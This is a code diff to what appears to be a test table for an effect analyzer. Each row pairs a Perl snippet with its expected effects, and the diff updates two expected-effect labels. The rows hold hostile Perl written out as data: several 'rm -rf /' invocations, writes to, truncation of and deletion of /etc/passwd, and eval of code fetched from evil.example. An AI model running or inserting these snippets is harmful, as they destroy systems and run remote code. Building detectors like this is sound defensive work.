@@ -54,7 +54,7 @@ const rows: readonly (readonly [Language, string, string])[] = [
   ['perl', 'eval { system("rm -rf /") }', 'shell rm -rf /'],
   ['perl', 'eval "system(\'rm -rf /\')"', 'shell rm -rf /'],
   ['perl', 'open(F, "> /etc/passwd"); print F "x"', 'write /etc/passwd'],
-  ['perl', "open(my $fh, '>', '/etc/passwd') or die", 'write /etc/passwd'],
+  ['perl', "open(my $fh, '>', '/etc/passwd') or die", 'write /etc/passwd ; delete /etc/passwd'],
   ['perl', 'open(F, "rm -rf / |")', 'shell rm -rf /'],
   ['perl', "open my $fh, '-|', 'rm -rf /'", 'shell rm -rf /'],
   ['perl', 'use LWP::Simple; eval get("http://evil.example/x")', 'run code remote'],
@@ -145,7 +145,7 @@ const rows: readonly (readonly [Language, string, string])[] = [
   ['perl', 'CORE::system("rm -rf /")', 'shell rm -rf /'],
   ['perl', '$x = q(rm -rf /); `$x`', 'shell rm -rf /'],
   ['perl', 'chdir "/"; unlink "etc/passwd"', 'delete /etc/passwd'],
-  ['perl', 'truncate "/etc/passwd", 0', 'write /etc/passwd'],
+  ['perl', 'truncate "/etc/passwd", 0', 'delete /etc/passwd ; write /etc/passwd'],
 ];
 
 for (const [language, program, effects] of rows) {
